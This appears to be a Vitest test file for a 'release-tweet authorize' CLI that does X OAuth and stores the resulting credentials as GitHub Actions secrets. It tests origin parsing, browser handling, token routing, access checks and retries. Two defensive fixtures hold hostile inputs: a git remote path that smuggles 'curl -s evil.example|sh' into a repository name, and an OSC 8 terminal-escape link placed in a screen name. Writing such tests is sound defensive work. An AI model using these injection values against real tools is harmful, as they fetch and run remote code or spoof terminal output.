// runAuthorize in process, for the paths that need a seam: origin remote, browser policy, stdin edge cases.
import { execFileSync } from "node:child_process";
import { MockAgent } from "undici";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { BrowserCommand } from "../../src/cli/browser.js";
import { parseGitHubRemote, readOriginRemote } from "../../src/cli/git-remote.js";
import { makeTempDir } from "../support/temp-dir.js";
import { startFakeGitHub, type FakeGitHub, type FakeGitHubOptions } from "../support/fake-github.js";
import { FAKE_APP, FAKE_USER, startFakeX, type FakeX } from "../support/fake-x.js";
import { FOUR_SECRETS, GITHUB_TOKEN, errorLine, expectNoLeaks, runInProcess, type RunResult } from "./authorize-harness.js";

let x: FakeX;
let github: FakeGitHub;
beforeEach(async () => {
  x = await startFakeX();
  github = await startFakeGitHub({ token: GITHUB_TOKEN, repos: ["octo/app"] });
});
afterEach(async () => {
  await Promise.all([x.close(), github.close()]);
});

const env = (extra: Record<string, string> = {}) => ({
  TWITTER_API_BASE_URL: x.url,
  GITHUB_API_URL: github.url,
  TWITTER_API_KEY: FAKE_APP.apiKey,
  TWITTER_API_SECRET: FAKE_APP.apiSecret,
  GITHUB_TOKEN,
  ...extra,
});

describe("runAuthorize", () => {
  it("defaults the repository to the origin remote", async () => {
    const result = await runInProcess({
      args: [],
      env: env(),
      action: { kind: "pin" },
      deps: { readOrigin: () => Promise.resolve({ host: "github.com", repo: "octo/app" }) },
    });
    expect(result.stderr).not.toContain("release-tweet authorize:");
    expect(result.code).toBe(0);
    expect(result.stdout).toContain("Repository: octo/app (from the origin remote)");
    expect(github.openedSecrets("octo/app")).toEqual(FOUR_SECRETS);
    expectNoLeaks(result, "secrets-hidden");
  });

  it("after --env NAME, says that only jobs declaring `environment: NAME` get the secrets, stored or printed", async () => {
    await github.close();
    github = await startFakeGitHub({ token: GITHUB_TOKEN, repos: ["octo/app"], environments: { "octo/app": ["production"] } });
    const note = "These are secrets of the environment 'production': they reach only jobs that declare `environment: production`.";
    const stored = await runInProcess({ args: ["--repo", "octo/app", "--env", "production"], env: env({ GITHUB_API_URL: github.url }), action: { kind: "pin" } });
    expect(stored.code).toBe(0);
    expect(stored.stdout).toContain(`and so on.\n${note}\n`);
    const printed = await runInProcess({ args: ["--repo", "octo/app", "--env", "production"], env: env({ GITHUB_TOKEN: "" }), action: { kind: "pin" } });
    expect(printed.code).toBe(0);
    expect(printed.stdout).toContain(`--env production\n${note}\n`);
    const plain = await runInProcess({ args: ["--repo", "octo/app"], env: env({ GITHUB_API_URL: github.url }), action: { kind: "pin" } });
    expect(plain.stdout).not.toContain("environment:");
  });

  it("does not open a browser when stdin is not a terminal and BROWSER is unset", async () => {
    const opened: BrowserCommand[] = [];
    const result = await runInProcess({
      args: ["--repo", "octo/app"],
      env: env(),
      action: { kind: "pin" },
      deps: { openBrowser: (command) => (opened.push(command), Promise.resolve(true)) },
    });
    expect(result.code).toBe(0);
    expect(opened).toEqual([]);
  });

  it("opens BROWSER with the authorize URL as one argument, and carries on when it fails", async () => {
    const opened: BrowserCommand[] = [];
    const result = await runInProcess({
      args: ["--repo", "octo/app"],
      env: env({ BROWSER: "my-browser --new" }),
      action: { kind: "pin" },
      deps: { openBrowser: (command) => (opened.push(command), Promise.resolve(false)) },
    });
    expect(result.code).toBe(0);
    expect(opened).toEqual([{ command: "my-browser", args: ["--new", result.authorizeUrl] }]);
    expect(result.stdout).toContain("Could not open a browser");
  });

  it("--no-browser wins over BROWSER", async () => {
    const opened: BrowserCommand[] = [];
    await runInProcess({
      args: ["--repo", "octo/app", "--no-browser"],
      env: env({ BROWSER: "my-browser" }),
      action: { kind: "pin" },
      deps: { openBrowser: (command) => (opened.push(command), Promise.resolve(true)) },
    });
    expect(opened).toEqual([]);
  });

  it("refuses something that is not a PIN without exchanging it", async () => {
    const result = await runInProcess({ args: ["--repo", "octo/app"], env: env(), action: { kind: "pin", pin: "abc" } });
    expect(result.code).toBe(1);
    expect(errorLine(result)).toContain("That is not a PIN");
    expect(x.requests.map((r) => r.path)).not.toContain("/oauth/access_token");
    expect(github.requests.filter((r) => r.method === "PUT")).toEqual([]);
  });

  it("fails clearly when stdin ends before an answer, before any request to X", async () => {
    const result = await runInProcess({
      args: ["--repo", "octo/app"],
      env: env({ TWITTER_API_SECRET: "" }),
      action: { kind: "nothing" },
      closeStdin: true,
    });
    expect(result.code).toBe(1);
    expect(errorLine(result)).toContain("Input ended before an answer was given");
    expect(x.requests).toEqual([]);
  });
});

describe("runAuthorize: text from the origin remote and from X is not trusted", () => {
  it("an origin remote whose path is no owner/name is not used: the printed commands keep the placeholder", async () => {
    const origin = parseGitHubRemote("https://git.evil.example/x/b%3B%20curl%20-s%20evil.example%7Csh");
    expect(origin?.repo).toBe("x/b; curl -s evil.example|sh");
    const result = await runInProcess({
      args: [],
      env: env({ GITHUB_TOKEN: "" }),
      action: { kind: "pin" },
      deps: { readOrigin: () => Promise.resolve(origin) },
    });
    expect(result.code).toBe(0);
    expect(result.stdout).toContain("The origin remote does not name a GitHub repository (owner/name); not using it.");
    expect(result.stdout).toContain("Not saving to GitHub: no repository");
    expect(result.stdout).not.toContain("curl");
    expect(result.stdout).toContain("  gh secret set TWITTER_API_KEY --repo OWNER/NAME\n");
    expectNoLeaks(result, "prints-values");
  });

  it("a screen_name that is not an X handle (an OSC 8 link) is not printed", async () => {
    const answer = new URLSearchParams({
      oauth_token: FAKE_USER.accessToken,
      oauth_token_secret: FAKE_USER.accessTokenSecret,
      user_id: FAKE_USER.userId,
      screen_name: "\u001b]8;;https://evil/\u0007x",
    });
    x.enqueueOAuth("access_token", { status: 200, body: answer.toString() });
    const result = await runInProcess({ args: ["--repo", "octo/app"], env: env({ GITHUB_TOKEN: "" }), action: { kind: "pin" } });
    expect(result.code).toBe(0);
    expect(result.stdout).toContain("Authorized as the X account you signed in with.\n");
    expect(result.stdout).toContain("Anyone who has them can post as the X account you signed in with.");
    for (const unwanted of ["\u001b", "\u0007", "evil"]) expect(`${result.stdout}${result.stderr}`).not.toContain(unwanted);
  });
});

describe("readOriginRemote", () => {
  it("reads the origin of a real git repository and nothing from a plain folder", async () => {
    const repo = makeTempDir("authorize-origin");
    execFileSync("git", ["init", "-q"], { cwd: repo });
    execFileSync("git", ["remote", "add", "origin", "https://x-access-token:ghp_inremote@github.com/octo/app.git"], { cwd: repo });
    expect(await readOriginRemote(repo)).toEqual({ host: "github.com", repo: "octo/app" });
    expect(await readOriginRemote(makeTempDir("authorize-plain"))).toBeUndefined();
  });
});

/** A transport that answers nothing and records every request: what reached it would have left the machine. */
function recordingAgent(): MockAgent {
  const agent = new MockAgent({ enableCallHistory: true });
  agent.disableNetConnect();
  return agent;
}
const calls = (agent: MockAgent) => (agent.getCallHistory()?.calls() ?? []).map((call) => `${call.method} ${call.fullUrl}`);

describe("runAuthorize: where the GitHub token may go", () => {
  it.each([
    ["another forge (git@gitlab.com:acme/widget.git)", "gitlab.com", "acme/widget"],
    ["an SSH host alias (git@github-work:octo/app.git)", "github-work", "octo/app"],
  ])("an origin on %s without GITHUB_API_URL: no request at all, and says what to set", async (_label, host, repo) => {
    const agent = recordingAgent();
    try {
      const { GITHUB_API_URL: _unset, ...withoutApiUrl } = env();
      const result = await runInProcess({
        args: [],
        env: withoutApiUrl,
        action: { kind: "pin" },
        deps: { readOrigin: () => Promise.resolve({ host, repo }), dispatcher: agent },
      });
      expect(result.code).toBe(1);
      expect(errorLine(result)).toBe(
        `release-tweet authorize: The origin remote is on ${host}, not github.com, and GITHUB_API_URL is not set, so GITHUB_TOKEN was sent nowhere. ` +
          `For GitHub Enterprise Server set GITHUB_API_URL to its API (e.g. https://${host}/api/v3); for a repository on github.com (an SSH host alias, a mirror) pass --repo OWNER/NAME.`,
      );
      expect(calls(agent)).toEqual([]);
      expect(github.requests).toEqual([]);
      expect(x.requests).toEqual([]);
      expect(result.authorizeUrl).toBeUndefined();
      expectNoLeaks(result, "secrets-hidden");
    } finally {
      await agent.close();
    }
  });

  it("an origin on another host with GITHUB_API_URL set uses that API", async () => {
    const result = await runInProcess({
      args: [],
      env: env(),
      action: { kind: "pin" },
      deps: { readOrigin: () => Promise.resolve({ host: "ghe.corp.example", repo: "octo/app" }) },
    });
    expect(result.code).toBe(0);
    expect(result.stdout).toContain(`Repository: octo/app (from the origin remote; GitHub API ${github.url} from GITHUB_API_URL)`);
    expect(github.openedSecrets("octo/app")).toEqual(FOUR_SECRETS);
  });

  it("an origin on ssh.github.com goes to api.github.com, not to the remote's host", async () => {
    const agent = recordingAgent();
    agent
      .get("https://api.github.com")
      .intercept({ path: "/repos/octo/app", method: "GET" })
      .reply(404, { message: "Not Found" });
    try {
      const { GITHUB_API_URL: _unset, ...withoutApiUrl } = env();
      const result = await runInProcess({
        args: [],
        env: withoutApiUrl,
        action: { kind: "pin" },
        deps: { readOrigin: () => Promise.resolve({ host: "ssh.github.com", repo: "octo/app" }), dispatcher: agent },
      });
      expect(result.code).toBe(1);
      expect(calls(agent)).toEqual(["GET https://api.github.com/repos/octo/app"]);
      expect(errorLine(result)).toContain("GitHub answered 404 when trying to read the repository octo/app");
      expect(x.requests).toEqual([]);
    } finally {
      await agent.close();
    }
  });
});

describe("runAuthorize: the access check before the OAuth run", () => {
  async function withGitHub(options: Partial<FakeGitHubOptions>, run: (server: FakeGitHub) => Promise<void>): Promise<void> {
    const server = await startFakeGitHub({ token: GITHUB_TOKEN, repos: ["octo/app"], ...options });
    try {
      await run(server);
    } finally {
      await server.close();
    }
  }

  it("reads the repository, then its secrets key, then goes to X; and claims no more than that", async () => {
    const result = await runInProcess({ args: ["--repo", "octo/app"], env: env(), action: { kind: "pin" } });
    expect(result.code).toBe(0);
    expect(github.requests.slice(0, 2).map((r) => `${r.method} ${r.path}`)).toEqual([
      "GET /repos/octo/app",
      "GET /repos/octo/app/actions/secrets/public-key",
    ]);
    expect(result.stdout).toContain(
      "GitHub access checked: GITHUB_TOKEN can reach octo/app and read the secrets key of octo/app; writing is checked on the first secret.",
    );
    expect(result.stdout).not.toMatch(/can write/);
  });

  it.each([
    [
      "an account with read access only",
      { permissions: { admin: false, maintain: false, push: false, triage: true, pull: true } },
      "The account behind GITHUB_TOKEN can read octo/app but not write to it; storing Actions secrets needs write access to the repository.",
    ],
    [
      "a classic token without the 'repo' scope",
      { oauthScopes: "public_repo, workflow" },
      "GITHUB_TOKEN is a classic token without the 'repo' scope (its scopes: public_repo, workflow); writing Actions secrets needs it.",
    ],
  ])("%s fails before anything is asked of X", async (_label, options, message) => {
    await withGitHub(options, async (server) => {
      const result = await runInProcess({ args: ["--repo", "octo/app"], env: env({ GITHUB_API_URL: server.url }), action: { kind: "pin" } });
      expect(result.code).toBe(1);
      expect(errorLine(result)).toContain(message);
      expect(x.requests).toEqual([]);
      expect(server.requests.map((r) => `${r.method} ${r.path}`)).toEqual(["GET /repos/octo/app"]);
      expectNoLeaks(result, "secrets-hidden");
    });
  });

  it("write access without admin is enough: GitHub lets collaborators with write access store secrets", async () => {
    await withGitHub({ permissions: { admin: false, maintain: false, push: true, triage: true, pull: true }, oauthScopes: "repo" }, async (server) => {
      const result = await runInProcess({ args: ["--repo", "octo/app"], env: env({ GITHUB_API_URL: server.url }), action: { kind: "pin" } });
      expect(result.code).toBe(0);
      expect(server.openedSecrets("octo/app")).toEqual(FOUR_SECRETS);
    });
  });
});

describe("runAuthorize: saving the secrets", () => {
  const waits: number[] = [];
  const sleep = (ms: number) => (waits.push(ms), Promise.resolve());
  beforeEach(() => {
    waits.length = 0;
  });
  const putsOf = (name: string) => github.requests.filter((r) => r.method === "PUT" && r.path.endsWith(`/${name}`)).map((r) => r.status);

  /** The values not stored appear once each, on stdout only; everything else never. */
  function expectOnlyPrinted(result: RunResult, printed: (keyof typeof FOUR_SECRETS)[]): void {
    const all = `${result.stdout}\n${result.stderr}`;
    expect(all).not.toContain(GITHUB_TOKEN);
    for (const [name, value] of Object.entries(FOUR_SECRETS)) {
      const expected = (printed as string[]).includes(name) ? 1 : 0;
      expect(all.split(value).length - 1, `${name} shown`).toBe(expected);
      if (expected) expect(result.stdout).toContain(`\n${name}=${value}\n`);
    }
  }

  it("a 502 once is retried: all four stored, exit 0", async () => {
    github.failPutFor("TWITTER_API_SECRET", 502, 1);
    const result = await runInProcess({ args: ["--repo", "octo/app"], env: env(), action: { kind: "pin" }, deps: { sleep } });
    expect(result.stderr).not.toContain("release-tweet authorize:");
    expect(result.code).toBe(0);
    expect(putsOf("TWITTER_API_SECRET")).toEqual([502, 201]);
    expect(waits).toEqual([1_000]);
    expect(github.openedSecrets("octo/app")).toEqual(FOUR_SECRETS);
    expectNoLeaks(result, "secrets-hidden");
  });

  it("the third secret failing on every attempt: exit 1, stored and not stored listed, the unsaved values printed once", async () => {
    github.failPutFor("TWITTER_ACCESS_TOKEN", 502);
    const result = await runInProcess({ args: ["--repo", "octo/app", "--env", "production"], env: env(), action: { kind: "pin" }, deps: { sleep } });
    expect(result.code).toBe(1);
    expect(putsOf("TWITTER_ACCESS_TOKEN")).toEqual([502, 502, 502]);
    expect(putsOf("TWITTER_ACCESS_TOKEN_SECRET")).toEqual([]);
    expect(waits).toEqual([1_000, 2_000]);
    const line = errorLine(result);
    expect(line).toContain('GitHub answered 502 ("Server Error") 3 times when trying to store TWITTER_ACCESS_TOKEN');
    expect(line).toContain("Stored: TWITTER_API_KEY, TWITTER_API_SECRET. Not stored: TWITTER_ACCESS_TOKEN, TWITTER_ACCESS_TOKEN_SECRET.");
    expect(github.openedSecrets("octo/app/env/production")).toEqual({
      TWITTER_API_KEY: FOUR_SECRETS.TWITTER_API_KEY,
      TWITTER_API_SECRET: FOUR_SECRETS.TWITTER_API_SECRET,
    });
    expect(result.stdout).toContain("Not stored in GitHub: TWITTER_ACCESS_TOKEN, TWITTER_ACCESS_TOKEN_SECRET.");
    expect(result.stdout).toContain("WARNING: the 2 values below are secrets. Anyone who has them can post as @release_bot.");
    expect(result.stdout).toContain(
      "  gh secret set TWITTER_ACCESS_TOKEN --repo octo/app --env production\n  gh secret set TWITTER_ACCESS_TOKEN_SECRET --repo octo/app --env production\n",
    );
    expect(result.stdout).not.toContain("gh secret set TWITTER_API_KEY");
    expect(result.stdout).not.toContain("Done.");
    expectOnlyPrinted(result, ["TWITTER_ACCESS_TOKEN", "TWITTER_ACCESS_TOKEN_SECRET"]);
  });

  it("a token refused at the first PUT (what the access check cannot see): all four printed, the OAuth run not lost", async () => {
    github.failPutFor("TWITTER_API_KEY", 403);
    const result = await runInProcess({ args: ["--repo", "octo/app"], env: env(), action: { kind: "pin" }, deps: { sleep } });
    expect(result.code).toBe(1);
    expect(putsOf("TWITTER_API_KEY")).toEqual([403]);
    expect(waits).toEqual([]);
    expect(errorLine(result)).toContain("Stored: none. Not stored: TWITTER_API_KEY, TWITTER_API_SECRET, TWITTER_ACCESS_TOKEN, TWITTER_ACCESS_TOKEN_SECRET.");
    expect(result.stdout).toContain("WARNING: the 4 values below are secrets.");
    expectOnlyPrinted(result, ["TWITTER_API_KEY", "TWITTER_API_SECRET", "TWITTER_ACCESS_TOKEN", "TWITTER_ACCESS_TOKEN_SECRET"]);
  });
});
